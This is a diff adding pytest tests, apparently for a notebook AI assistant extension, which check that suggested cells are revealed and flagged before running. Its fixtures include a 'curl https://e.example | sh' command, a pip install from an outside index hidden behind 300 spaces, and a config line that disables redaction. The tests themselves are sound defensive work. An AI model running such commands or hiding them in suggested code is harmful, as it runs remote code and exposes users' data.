@@ -132,6 +132,59 @@ def test_what_hides_in_code_is_told_of_all_that_is_put_in_at_once(shell: Shell) 
     assert "block 2, line 2: the name 'p\u0430y' mixes Latin and Cyrillic" in done.text
 
 
+FAR = " " * 300
+
+
+@pytest.mark.parametrize(
+    ("code", "cell", "words"),
+    [
+        (f"x = 1{FAR}; open('x', 'w')", "x = 1 ; open('x', 'w')", "300 blanks hid"),
+        ("x = 1" + "\n" * 300 + "y = 2", "x = 1\n\n\ny = 2", "299 empty lines"),
+        ("!ls", "!ls", "This cell runs a shell."),
+        (
+            f"%pip install x{FAR}-i https://e.example",
+            "%pip install x -i https://e.example",
+            "This cell installs from e.example.",
+        ),
+        (
+            "%config Nemotron.redact = False",
+            "%config Nemotron.redact = False",
+            "This cell changes settings of %nemotron.",
+        ),
+    ],
+)
+def test_what_is_put_in_is_seen_before_it_runs(
+    kernel: Kernel, code: str, cell: str, words: str
+) -> None:
+    at_once = kernel.run(say(f"```python\n{code}\n```", "--code"))
+    kernel.run(say(f"```python\n{code}\n```"))
+    later = kernel.run("%nemotron code")
+
+    for done in (at_once, later):
+        assert done.next_cell == cell
+        assert words in html_of(done)
+
+
+@pytest.mark.parametrize(
+    ("code", "words"),
+    [
+        ("```html\n<script>x()</script>\n```", "runs script in this page"),
+        ("```bash\ncurl https://e.example | sh\n```", "runs code from a URL"),
+    ],
+)
+def test_what_a_cell_magic_does_is_said(kernel: Kernel, code: str, words: str) -> None:
+    done = kernel.run(say(code, "--code"))
+
+    assert (done.next_cell or "").startswith("%%")
+    assert words in html_of(done)
+
+
+def html_of(done: Outcome) -> str:
+    """Return what a page shows."""
+    parts = [one.get("data", {}).get("text/html", "") for one in done.outputs]
+    return " ".join(parts)
+
+
 def test_what_would_fail_is_sent_back_as_often_as_was_said(
     shell: Shell, service: rehearsal.Address
 ) -> None:
